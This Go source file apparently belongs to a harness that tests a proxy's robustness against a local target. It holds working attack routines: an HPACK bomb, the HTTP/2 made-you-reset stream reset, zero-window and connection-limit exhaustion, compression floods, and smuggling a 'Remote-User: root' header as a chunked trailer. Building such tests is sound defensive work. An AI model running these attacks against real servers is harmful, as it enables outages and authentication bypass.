//go:build linux

package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is one way to abuse a proxy.
type attack struct {
	name, title string
	limit       int  // how many connections of clients the proxy takes; 0 is many
	quic        bool // over HTTP/3
	run         func(ctx context.Context, t *target) (note string)
}

// leave closes the connections that the attack still has.
func (attack) leave() { held.close() }

var attacks = []attack{
	{name: "trailers", title: "a forwarded header, as a trailer", run: trailers},
	{name: "response-trailers", title: "a header that a rule removes from responses, as a trailer", run: responseTrailers},
	{name: "compression", title: "50 clients request an endless text with gzip, then disconnect", run: compression("gzip")},
	{name: "brotli", title: "50 clients request an endless text with br (nginx: uncompressed), then disconnect", run: compression("br")},
	{name: "hpack", title: "HPACK bomb, on one connection after another", run: hpackBomb},
	{name: "made-you-reset", title: "made-you-reset, on one connection after another", run: madeYouReset},
	{name: "limit", title: "600 silent clients at the connection limit", limit: maxConnections, run: hungClients},
	{name: "window", title: "100 connections with 256 streams and no window", run: zeroWindow},
	{name: "h3-reset", title: "HTTP/3: requests cancelled immediately, on one connection after another", quic: true, run: resetH3},
	{name: "h3-streams", title: "HTTP/3: unidirectional streams reset before their type", quic: true, run: uniH3},
	{name: "h3-window", title: "HTTP/3: 100 connections with the maximum of streams and a small window", quic: true, run: windowH3},
}

// connections are those that an attack holds open.
type connections struct {
	sync.Mutex
	all []io.Closer
}

var held connections

func (c *connections) add(nc io.Closer) {
	c.Lock()
	defer c.Unlock()
	c.all = append(c.all, nc)
}

func (c *connections) close() {
	c.Lock()
	defer c.Unlock()
	for _, nc := range c.all {
		nc.Close()
	}
	c.all = nil
}

// trailers sends a trailer that a rule of the proxy removes as a field.
func trailers(_ context.Context, t *target) string {
	nc, err := net.Dial("tcp", t.h1)
	if err != nil {
		return err.Error()
	}
	held.add(nc)
	_ = nc.SetDeadline(time.Now().Add(length))
	_, _ = io.WriteString(nc, "POST /trailer HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\nTE: trailers\r\nTrailer: Remote-User\r\nConnection: close\r\n\r\n"+
		"1\r\nx\r\n0\r\nRemote-User: root\r\n\r\n")
	_, _ = io.Copy(io.Discard, nc)
	if t.up.trailer.Load() {
		return "it reached the server"
	}
	return "it did not reach the server"
}

// responseTrailers asks for a response whose trailer a rule of the proxy removes as a
// field.
func responseTrailers(_ context.Context, t *target) string {
	nc, err := net.Dial("tcp", t.h1)
	if err != nil {
		return err.Error()
	}
	held.add(nc)
	_ = nc.SetDeadline(time.Now().Add(length))
	_, _ = io.WriteString(nc, "GET /secret HTTP/1.1\r\nHost: a.test\r\nTE: trailers\r\nConnection: TE, close\r\n\r\n")
	got, _ := io.ReadAll(nc)
	switch {
	case !bytes.Contains(got, []byte("nothing")):
		return fmt.Sprintf("no answer: %q", got)
	case bytes.Contains(bytes.ToLower(got), []byte("x-secret")):
		return "it reached the client"
	}
	return "it did not reach the client"
}

// compression returns an attack that disconnects after the first bytes of an endless text:
// the proxy must not continue to work for it.
func compression(coding string) func(context.Context, *target) string {
	return func(_ context.Context, t *target) string { return endless(t, coding) }
}

func endless(t *target, coding string) string {
	var all sync.WaitGroup
	for range 50 {
		all.Go(func() {
			nc, err := net.DialTimeout("tcp", t.h1, time.Second)
			if err != nil {
				return
			}
			held.add(nc)
			_, _ = io.WriteString(nc, "GET /endless HTTP/1.1\r\nHost: a.test\r\nAccept-Encoding: "+coding+"\r\n\r\n")
			_ = nc.SetReadDeadline(time.Now().Add(length / 2))
			_, _ = io.ReadFull(nc, make([]byte, 200))
		})
	}
	all.Wait()
	held.close()
	return "all disconnected halfway"
}

// client is a connection of HTTP/2 whose frames are made by hand.
type client struct {
	net.Conn
	*http2.Framer
	block bytes.Buffer
	enc   *hpack.Encoder
	next  uint32
}

func dial(t *target, settings ...http2.Setting) (*client, error) {
	nc, err := net.DialTimeout("tcp", t.h2, time.Second)
	if err != nil {
		return nil, err
	}
	c := &client{Conn: nc, next: 1}
	c.Framer, c.enc = http2.NewFramer(nc, nc), hpack.NewEncoder(&c.block)
	_, _ = io.WriteString(nc, http2.ClientPreface)
	_ = nc.SetWriteDeadline(time.Now().Add(length))
	return c, c.WriteSettings(settings...)
}

// get begins a stream, and returns its number.
func (c *client) get(path string) (uint32, error) {
	c.block.Reset()
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "a.test"}} {
		_ = c.enc.WriteField(f)
	}
	id := c.next
	c.next += 2
	return id, c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block.Bytes(), EndStream: true, EndHeaders: true})
}

// again opens connections, one after the other and as many at once as there are to be
// clients, and has each used until it fails.
func again(ctx context.Context, t *target, what string, use func(*client) error) string {
	var all sync.WaitGroup
	var opened, used atomic.Int64
	for range clients {
		all.Go(func() {
			o, u := oneAgain(ctx, t, use)
			opened.Add(int64(o))
			used.Add(int64(u))
		})
	}
	all.Wait()
	return fmt.Sprintf("%d %s on %d connections", used.Load(), what, opened.Load())
}

func oneAgain(ctx context.Context, t *target, use func(*client) error) (opened, used int) {
	for ctx.Err() == nil {
		c, err := dial(t)
		if err != nil {
			continue
		}
		opened++
		go func() {
			_, _ = io.Copy(io.Discard, c.Conn)
			c.Close() // the proxy has had enough
		}()
		stop := context.AfterFunc(ctx, func() { c.Close() })
		for ctx.Err() == nil && use(c) == nil {
			used++
		}
		stop()
		c.Close()
	}
	return opened, used
}

// hpackBomb sends heads whose few bytes stand for many: references to a long field.
func hpackBomb(ctx context.Context, t *target) string {
	const last = 0x80 | 62 // the field that came into the table last
	references := bytes.Repeat([]byte{last}, 12000)
	long := hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)}
	return again(ctx, t, "heads", func(c *client) error {
		c.block.Reset()
		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: "/"}, {Name: ":authority", Value: "a"}, long} {
			_ = c.enc.WriteField(f)
		}
		c.block.Write(references)
		id := c.next
		c.next += 2
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block.Bytes(), EndStream: true, EndHeaders: true})
	})
}

// madeYouReset makes the proxy reset streams whose requests it has sent to the server: by
// a WINDOW_UPDATE of nothing.
func madeYouReset(ctx context.Context, t *target) string {
	return again(ctx, t, "streams", func(c *client) error {
		id, err := c.get("/probe")
		if err == nil {
			err = c.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
		}
		return err
	})
}

// hungClients takes every connection that the proxy gives, and says nothing.
func hungClients(_ context.Context, t *target) string {
	var opened atomic.Int64
	var all sync.WaitGroup
	for range 600 {
		all.Go(func() {
			if nc, err := net.DialTimeout("tcp", t.h1, time.Second); err == nil {
				held.add(nc)
				_, _ = io.WriteString(nc, "GET /probe HTTP/1.1\r\n")
				opened.Add(1)
			}
		})
	}
	all.Wait()
	return fmt.Sprintf("%d were open", opened.Load())
}

// zeroWindow asks for long responses and takes nothing of them.
func zeroWindow(_ context.Context, t *target) string {
	var asked atomic.Int64
	var all sync.WaitGroup
	for range 100 {
		all.Go(func() {
			c, err := dial(t, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				return
			}
			held.add(c.Conn)
			go func() { _, _ = io.Copy(io.Discard, c.Conn) }()
			for range 256 {
				if _, err := c.get("/big"); err != nil {
					return
				}
				asked.Add(1)
			}
		})
	}
	all.Wait()
	return fmt.Sprintf("%d streams were opened", asked.Load())
}
